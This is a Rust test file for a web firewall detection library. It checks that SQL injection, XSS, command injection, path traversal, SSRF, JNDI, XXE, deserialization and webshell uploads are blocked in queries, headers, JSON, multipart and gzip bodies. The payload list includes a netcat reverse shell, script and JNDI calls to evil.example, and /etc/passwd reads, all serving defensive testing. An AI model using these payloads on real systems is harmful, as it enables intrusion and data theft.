//! Attacks beyond the GoTestWAF corpus, in every place a request carries
//! data, with the family and location reported.

mod common;
use common::*;
use portcullis_detect::{Family, Profile, RawRequest, Sensitivity};

const ATTACKS: &[(&str, Family)] = &[
    ("admin'--", Family::Sqli),
    ("1' AND SLEEP(5)#", Family::Sqli),
    ("' OR 1=1 -- -", Family::Sqli),
    (
        "1 UNION ALL SELECT NULL,NULL,concat(user(),0x3a,version())--",
        Family::Sqli,
    ),
    ("1;DROP TABLE users", Family::Sqli),
    (
        "1 AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT(0x7e,(SELECT database()),0x7e,FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)a)",
        Family::Sqli,
    ),
    (
        "1'/**/UnIoN/**/SeLeCt/**/password/**/FrOm/**/users#",
        Family::Sqli,
    ),
    // MySQL's lexer: a number glued to a keyword, a no-break space, the
    // \N literal, union modifiers.
    ("1e0union select password from users", Family::Sqli),
    (".1union select 1,2", Family::Sqli),
    ("1.union select 1,2", Family::Sqli),
    ("1 union\u{a0}select 1,2", Family::Sqli),
    ("\\N union select 1,2", Family::Sqli),
    ("1 union distinctrow select 1,2", Family::Sqli),
    ("1' procedure analyse()", Family::Sqli),
    ("<img src=x onerror=alert(1)>", Family::Xss),
    (
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        Family::Xss,
    ),
    ("<a href=\"jav&#x09;ascript:alert(1)\">x</a>", Family::Xss),
    ("\"><script src=//evil.example/x.js></script>", Family::Xss),
    ("<details open ontoggle=confirm`1`>", Family::Xss),
    ("$(whoami)", Family::Rce),
    ("|| ping -c 10 127.0.0.1", Family::Rce),
    ("127.0.0.1; nc -e /bin/sh 10.0.0.1 4444", Family::Rce),
    ("`uname -a`", Family::Rce),
    ("../../../../etc/passwd%00", Family::PathTraversal),
    ("..\\..\\..\\windows\\win.ini", Family::PathTraversal),
    ("http://169.254.169.254/latest/meta-data/iam/", Family::Ssrf),
    ("gopher://127.0.0.1:6379/_FLUSHALL", Family::Ssrf),
    ("${jndi:ldap://evil.example/a}", Family::Jndi),
    ("${${lower:j}${upper:n}di:rmi://x/y}", Family::Jndi),
    ("{{7*7}}", Family::Ssti),
    ("{{''.__class__.__mro__[1].__subclasses__()}}", Family::Ssti),
    (
        "O:8:\"Example\":1:{s:4:\"file\";s:11:\"/etc/passwd\";}",
        Family::Deserialization,
    ),
    (
        "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3Rvcg",
        Family::Deserialization,
    ),
    ("*)(uid=*))(|(uid=*", Family::Ldap),
    ("<!--#include virtual=\"/etc/passwd\"-->", Family::Ssi),
    ("<?php system($_GET['c']); ?>", Family::CodeInjection),
    ("__import__('os').popen('id').read()", Family::CodeInjection),
];

#[test]
fn attacks_are_blocked_in_query_form_and_json() {
    let mut missed = Vec::new();
    for (a, fam) in ATTACKS {
        for (place, v) in placements(a) {
            if !blocked(&v) || !v.findings.iter().any(|f| f.family == *fam) {
                missed.push(format!("{place}: {a:?} (want {fam}) -> {:?}", v.findings));
            }
        }
    }
    assert!(missed.is_empty(), "missed:\n{}", missed.join("\n"));
}

#[test]
fn base64_and_double_encoding_are_seen_through() {
    // base64 of `<script>alert(1)</script>` without padding
    let v = run("GET", "/?x=PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg", &[], b"");
    assert!(blocked(&v), "{:?}", v.findings);
    let v = run(
        "GET",
        "/?x=%253Cscript%253Ealert(1)%253C%252Fscript%253E",
        &[],
        b"",
    );
    assert!(blocked(&v), "{:?}", v.findings);
    let v = run("GET", "/?x=%u003Cscript%u003Ealert(1)", &[], b"");
    assert!(blocked(&v), "{:?}", v.findings);
}

#[test]
fn locations_are_named() {
    let v = run(
        "POST",
        "/p?id=1%27%20OR%20%271%27%3D%271",
        &[
            ("cookie", "sid=abc; pref=%3Cscript%3Ealert(1)%3C%2Fscript%3E"),
            ("user-agent", "sqlmap/1.7.4#stable (https://sqlmap.org)"),
            ("x-api-note", "${jndi:ldap://x/a}"),
            ("content-type", "application/json"),
        ],
        br#"{"user":{"name":"x","tags":["a","<svg onload=alert(1)>"]},"q":{"$where":"sleep(100)"}}"#,
    );
    let locs: Vec<(&str, Family)> = v
        .findings
        .iter()
        .map(|f| (f.location.as_str(), f.family))
        .collect();
    for want in [
        ("query.id", Family::Sqli),
        ("cookie.pref", Family::Xss),
        ("header.user-agent", Family::ScannerPath),
        ("header.x-api-note", Family::Jndi),
        ("json.user.tags[1]", Family::Xss),
        ("json.q.$where", Family::Nosql),
    ] {
        assert!(locs.contains(&want), "{want:?} not in {locs:?}");
    }
    let top = &v.findings[0];
    assert!(top.evidence.chars().count() <= 64);
    assert!(v.findings.windows(2).all(|w| w[0].score >= w[1].score));
}

#[test]
fn multipart_upload_of_a_webshell() {
    let body = b"--b0undary\r\nContent-Disposition: form-data; name=\"avatar\"; filename=\"shell.php\"\r\nContent-Type: image/png\r\n\r\n<?php echo shell_exec($_GET['c']); ?>\r\n--b0undary--\r\n";
    let v = run(
        "POST",
        "/upload",
        &[("content-type", "multipart/form-data; boundary=b0undary")],
        body,
    );
    assert!(blocked(&v));
    assert!(
        v.findings
            .iter()
            .any(|f| f.family == Family::Webshell && f.location == "multipart.avatar.filename"),
        "{:?}",
        v.findings
    );
    assert!(
        v.findings
            .iter()
            .any(|f| f.family == Family::Webshell && f.location == "multipart.avatar"),
        "{:?}",
        v.findings
    );
}

#[test]
fn markup_uploaded_as_binary_is_read_as_markup() {
    let upload = |filename: &str, ctype: &str, content: &str| {
        let body = format!(
            "--b\r\nContent-Disposition: form-data; name=\"file\"; filename=\"{filename}\"\r\nContent-Type: {ctype}\r\n\r\n{content}\r\n--b--\r\n"
        );
        run(
            "POST",
            "/upload",
            &[("content-type", "multipart/form-data; boundary=b")],
            body.as_bytes(),
        )
    };
    for (filename, ctype, content) in [
        (
            "a.html",
            "application/octet-stream",
            "<html><script>alert(document.cookie)</script>",
        ),
        ("a.svg", "image/png", "<svg onload=alert(1)>"),
        (
            "avatar.png",
            "image/png",
            " <svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>",
        ),
    ] {
        let v = upload(filename, ctype, content);
        assert!(blocked(&v), "{filename} as {ctype}: {:?}", v.findings);
    }
    // A real image's bytes are not read as text.
    let png = upload("a.png", "image/png", "\u{89}PNG\r\n\u{1a}\n<svg onload=x>");
    assert!(!blocked(&png), "{:?}", png.findings);
}

#[test]
fn xml_external_entity() {
    let body = b"<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>";
    let v = run("POST", "/xml", &[("content-type", "application/xml")], body);
    assert!(
        v.findings
            .iter()
            .any(|f| f.family == Family::Xxe && f.location == "xml"),
        "{:?}",
        v.findings
    );
}

#[test]
fn gzip_body_is_inflated() {
    use std::io::Write;
    let mut e = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    e.write_all(b"q=1%27+UNION+SELECT+password+FROM+users--")
        .unwrap();
    let gz = e.finish().unwrap();
    let v = run(
        "POST",
        "/f",
        &[
            ("content-type", "application/x-www-form-urlencoded"),
            ("content-encoding", "gzip"),
        ],
        &gz,
    );
    assert!(
        v.findings
            .iter()
            .any(|f| f.family == Family::Sqli && f.location == "form.q"),
        "{:?}",
        v.findings
    );
}

#[test]
fn graphql_introspection_get_and_post() {
    let v = run(
        "GET",
        "/graphql?query=%7B__schema%7Btypes%7Bname%7D%7D%7D",
        &[],
        b"",
    );
    assert!(
        v.findings
            .iter()
            .any(|f| f.rule_id == "graphql.introspection"),
        "{:?}",
        v.findings
    );
    let v = run(
        "POST",
        "/graphql",
        &[("content-type", "application/json")],
        br#"{"query":"query { __schema { types { name } } }"}"#,
    );
    assert!(
        v.findings
            .iter()
            .any(|f| f.rule_id == "graphql.introspection"),
        "{:?}",
        v.findings
    );
}

#[test]
fn exclusions_free_text_and_sensitivity() {
    let req = |d: &portcullis_detect::Detector| {
        let h: [(&str, &[u8]); 0] = [];
        d.inspect(&RawRequest {
            method: "GET",
            target: b"/?token=%27%20OR%201%3D1--&code=a%3B%20cat%20foo",
            headers: &h,
            body: b"",
            body_truncated: false,
        })
    };
    let base = req(&detector());
    assert!(base.findings.iter().any(|f| f.location == "query.token"));
    let d = portcullis_detect::Detector::new(Profile {
        excluded: vec!["query.token".into()],
        ..Profile::default()
    });
    assert!(!req(&d).findings.iter().any(|f| f.location == "query.token"));
    let d = portcullis_detect::Detector::new(Profile {
        excluded: vec!["query.".into()],
        ..Profile::default()
    });
    assert!(req(&d).findings.is_empty());
    let d = portcullis_detect::Detector::new(Profile {
        free_text: vec!["query.token".into()],
        ..Profile::default()
    });
    assert!(
        req(&d)
            .findings
            .iter()
            .all(|f| f.location != "query.token" || f.score >= 9)
    );
    let low = portcullis_detect::Detector::new(Profile {
        sensitivity: Sensitivity::Low,
        ..Profile::default()
    });
    assert!(req(&low).findings.iter().all(|f| f.score >= 9));
}

#[test]
fn hostile_inputs_do_not_panic_and_stay_bounded() {
    let nested = "[".repeat(100_000);
    let ent = "&#".repeat(50_000);
    let pct = "%25".repeat(50_000);
    let dollars = "${".repeat(50_000);
    let lt = "<a ".repeat(30_000);
    for body in [
        nested.as_bytes(),
        ent.as_bytes(),
        pct.as_bytes(),
        dollars.as_bytes(),
        lt.as_bytes(),
        &[0xff; 10_000][..],
    ] {
        for ct in [
            "application/json",
            "application/xml",
            "multipart/form-data; boundary=x",
            "application/x-www-form-urlencoded",
            "",
        ] {
            let started = std::time::Instant::now();
            let v = run("POST", "/x", &[("content-type", ct)], body);
            assert!(v.findings.len() <= 16);
            let per_kb = started.elapsed().as_secs_f64() * 1000.0 / (body.len() as f64 / 1024.0);
            // Debug builds are ~10x slower than release; the release budget is 1 ms/KB.
            assert!(per_kb < 10.0, "{ct}: {per_kb:.3} ms/KB");
        }
    }
}
